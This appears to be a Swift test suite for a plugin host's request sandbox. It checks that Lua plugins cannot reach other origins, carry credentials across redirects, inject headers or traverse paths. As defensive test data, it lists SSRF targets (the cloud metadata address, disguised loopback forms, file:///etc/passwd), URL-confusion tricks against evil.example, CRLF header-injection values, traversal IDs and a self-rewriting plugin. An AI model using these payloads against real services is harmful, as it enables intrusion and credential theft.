import Rehearsal
import RunCore
import Testing

@testable import PluginHost

/// Requests that must not leave, whatever made them (H1, H3, H4, H5 and H12 of the hostile cases).
struct ForbiddenRequestTests {
    private static let token =
        #"auth = { type = "bearer", secret = "token" }, settings = { token = { type = "secret" } },"#

    private func bench(trigger: String = SamplePlugin.trigger, poll: String = SamplePlugin.poll) async throws -> Bench {
        try await Bench(
            SamplePlugin.source(trigger: trigger, poll: poll, Self.token),
            secrets: ["token": "t0ken-t0ken"]
        )
    }

    private func courier(_ bench: Bench, _ transport: FakeTransport) -> RequestCourier {
        RequestCourier(credentials: bench.provider, transport: transport, clock: VirtualClock())
    }

    /// Polls, and gives the fault and what left.
    private func polled(
        _ poll: String,
        remote: JSONValue = 7,
        _ outcomes: Transmission...
    ) async throws -> (PluginFault, FakeTransport) {
        let bench = try await bench(poll: "\(poll), status = \"json.s\", states = { done = \"succeeded\" }")
        let transport = FakeTransport(outcomes)
        let courier = courier(bench, transport)
        let fault = try await bench.fault {
            try await bench.provider.poll(bench.run(remote: ["id": remote]), through: courier)
        }
        return (fault, transport)
    }

    // MARK: - Hosts

    /// H1, and sandbox row 41: each is another origin than the plugin's, however it is written.
    @Test(arguments: [
        "http://169.254.169.254/latest", "http://localhost/", "http://127.0.0.1/", "http://[::1]/",
        "http://2130706433/",
        "http://0x7f000001/", "http://0177.0.0.1/", "http://127.1/", "http://[::ffff:127.0.0.1]/", "file:///etc/passwd",
        "ftp://api.example.com/", "http://api.example.com/", "https://api.example.com:8443/",
        "https://api.example.com./",
        "https://api.example.com.evil.example/", "https://evil.example/?https://api.example.com",
        "https://evil.example#@api.example.com", "https://ann:pw@api.example.com/",
        "https://api.example.com@evil.example/",
        "https://api.example.com:443@evil.example/", "https:\\\\api.example.com@evil.example/",
        "https://\u{430}pi.example.com/", "https://api.example.com\u{FF0F}@evil.example/",
        "//evil.example/", "https://[fe80::1%25eth0]/", "gopher://api.example.com/", "javascript:alert(1)", "",
    ])
    func linkToAnotherOriginIsNeverSent(link: String) async throws {
        let (_, transport) = try await polled(#"request = "GET {remote.id}""#, remote: .string(link))
        #expect(transport.requests.isEmpty)
    }

    @Test func functionThatAsksElsewhereIsAFaultWithThePlace() async throws {
        let (fault, transport) = try await polled(
            #"request = function() return "GET http://169.254.169.254/latest" end"#
        )
        #expect(transport.requests.isEmpty)
        #expect(fault.summary.contains("http://169.254.169.254:80 is not one of this plugin's hosts"))
        #expect(fault.place?.hasPrefix("sample.lua") == true)
    }

    /// Same origin in other spellings is the same origin, and gets the credentials.
    @Test(arguments: [
        "HTTPS://API.EXAMPLE.COM/v1/x", "https://api\u{3002}example.com/v1/x", "https://api.example.com:443/v1/x",
        "//api.example.com/v1/x", "x",
    ])
    func sameOriginInOtherSpellingIsReached(link: String) async throws {
        let bench = try await bench(
            poll: #"request = "GET {remote.id}", status = "json.s", states = { done = "succeeded" }"#
        )
        let transport = FakeTransport([.answer(200, #"{"s":"done"}"#)])
        _ = try await bench.provider.poll(bench.run(remote: ["id": .string(link)]), through: courier(bench, transport))
        #expect(transport.requests.map { $0.headers["authorization"] } == ["Bearer t0ken-t0ken"])
    }

    /// H3.
    @Test(arguments: [
        "https://evil.example/", "http://169.254.169.254/latest", "//evil.example/", "http://api.example.com/v1/runs/7",
        "https://api.example.com:444/",
    ])
    func redirectToAnotherHostIsNotFollowedAndGetsNoCredentials(location: String) async throws {
        let (fault, transport) = try await polled(
            #"request = "GET /runs/{remote.id}""#,
            .answer(302, "", ["Location": location])
        )
        #expect(transport.requests.map(\.url) == ["https://api.example.com/v1/runs/7"])
        #expect(fault.message.contains("is not one of this plugin's hosts"))
    }

    @Test func redirectToAFurtherHostGoesWithoutCredentialsAndHeaders() async throws {
        let source = SamplePlugin.source(
            poll: """
                request = { "GET /runs/{remote.id}", headers = { ["X-Tenant"] = "7" } },
                status = "json.s", states = { done = "succeeded" }
                """,
            #"\#(Self.token) hosts = { "files.example.com", { "own.example.com", credentials = true } },"#
        )
        let bench = try await Bench(source, secrets: ["token": "t0ken-t0ken"])
        for host in ["files", "own"] {
            let moved = Transmission.answer(307, "", ["Location": "https://\(host).example.com/7"])
            let transport = FakeTransport([moved, .answer(200, #"{"s":"done"}"#)])
            _ = try await bench.provider.poll(bench.run(), through: courier(bench, transport))
            #expect(transport.requests.count == 2)
            #expect(transport.requests.last?.headers == [:])
        }
    }

    // MARK: - Headers and paths

    /// H4 and H5, in what a function returns and in what the answer before gave.
    @Test(arguments: [
        (#"["X-A"] = "b\r\nHost: x""#, #"the header "X-A" cannot be sent"#),
        (#"["X-A\r\nHost"] = "x""#, #"the header "X-A\r\nHost" cannot be sent"#),
        (#"["X-A"] = "b\0""#, #"the header "X-A" cannot be sent"#),
        (#"Authorization = "Bearer stolen""#, "the header Authorization belongs to the host"),
        (#"aUTHORIZATION = "Bearer stolen""#, "the header aUTHORIZATION belongs to the host"),
        (#"Host = "evil.example""#, "the header Host belongs to the host"),
        (#"["Content-Length"] = "0""#, "the header Content-Length belongs to the host"),
        (#"["Transfer-Encoding"] = "chunked""#, "the header Transfer-Encoding belongs to the host"),
        (#"["Proxy-Authorization"] = "x""#, "the header Proxy-Authorization belongs to the host"),
    ])
    func headerThatAPluginMayNotSendStopsTheRequest(header: String, message: String) async throws {
        for request in [
            #"{ "GET /x", headers = { \#(header) } }"#,
            #"function() return { "GET /x", headers = { \#(header) } } end"#,
        ] {
            let (fault, transport) = try await polled("request = \(request)")
            #expect(fault.message.hasSuffix(message))
            #expect(fault.place?.hasPrefix("sample.lua") == true)
            #expect(transport.requests.isEmpty)
        }
    }

    @Test func headerFilledWithALineBreakOfTheProviderIsNotSent() async throws {
        let (fault, transport) = try await polled(
            #"request = { "GET /x", headers = { ["X-Run"] = "{remote.id}" } }"#,
            remote: "7\r\nHost: evil.example"
        )
        #expect(fault.message.hasSuffix(#"the header "X-Run" cannot be sent"#))
        #expect(transport.requests.isEmpty)
    }

    /// Sandbox row 44.
    @Test(arguments: [
        ("../../admin", "..%2F..%2Fadmin"), ("7?x=1", "7%3Fx%3D1"), ("7#y", "7%23y"), ("7%2fadmin", "7%252fadmin"),
        ("a/b", "a%2Fb"), ("7;v=1", "7%3Bv%3D1"), ("7\r\nHost: x", "7%0D%0AHost%3A%20x"), ("é", "%C3%A9"),
        ("\\..\\admin", "%5C..%5Cadmin"),
    ])
    func idOfTheProviderStaysOneSegment(id: String, segment: String) async throws {
        let bench = try await bench()
        let transport = FakeTransport([.answer(200, #"{"status":"done"}"#)])
        _ = try await bench.provider.poll(bench.run(remote: ["id": .string(id)]), through: courier(bench, transport))
        #expect(transport.requests.map(\.url) == ["https://api.example.com/v1/runs/\(segment)"])
    }

    @Test(arguments: ["..", ".", "%2e%2e"]) func idThatIsAStepInThePathIsRefused(id: String) async throws {
        let bench = try await bench()
        let transport = FakeTransport([.answer(200, #"{"status":"done"}"#)])
        let run = bench.run(remote: ["id": .string(id)])
        if id == "%2e%2e" {
            _ = try await bench.provider.poll(run, through: courier(bench, transport))
            #expect(transport.requests.map(\.url) == ["https://api.example.com/v1/runs/%252e%252e"])
        } else {
            let fault = try await bench.fault { try await bench.provider.poll(run, through: courier(bench, transport)) }
            #expect(fault.message.contains("cannot stand in a path"))
            #expect(transport.requests.isEmpty)
        }
    }

    // MARK: - Bodies

    /// H12.
    @Test(arguments: [
        ("local t = {}; t.a = t; return t", ".json.a.a"), ("return { a = { b = { 1, 2, 0/0 } } }", "json.a.b[3]"),
        ("return { a = 1/0 }", "json.a"), ("return { a = { b = function() end } }", "json.a.b"),
        (#"return { a = { "\xFF\xFE" } }"#, "json.a[1]"),
    ])
    func bodyThatIsNoJSONIsAFaultWithItsPath(body: String, path: String) async throws {
        let (fault, transport) = try await polled(
            #"request = function() return { "POST /x", json = (function() \#(body) end)() } end"#
        )
        #expect(fault.message.contains(path), "\(fault.message)")
        #expect(transport.requests.isEmpty)
    }

    /// H22.
    @Test func tableThatAFunctionChangesIsTheOneThatWasRead() async throws {
        let source = """
            local plugin
            plugin = {
              api = 1, name = "sample", version = "1.0.0", summary = "A sample",
              base_url = "https://api.example.com/v1", target = {}, \(Self.token)
              trigger = { request = function()
                plugin.base_url = "https://evil.example"
                plugin.hosts = { { "https://evil.example", credentials = true } }
                plugin.auth = false
                return "POST https://evil.example/x"
              end, remote = { id = "json.id" } },
              poll = { \(SamplePlugin.poll) },
            }
            return plugin
            """
        let bench = try await Bench(source, secrets: ["token": "t0ken-t0ken"])
        for _ in 1...2 {
            let start = try await bench.start()
            let fault = try await bench.fault { try await bench.provider.authorize(start, through: FakeCourier([])) }
            #expect(fault.message.contains("https://evil.example:443 is not one of this plugin's hosts"))
        }
    }
}
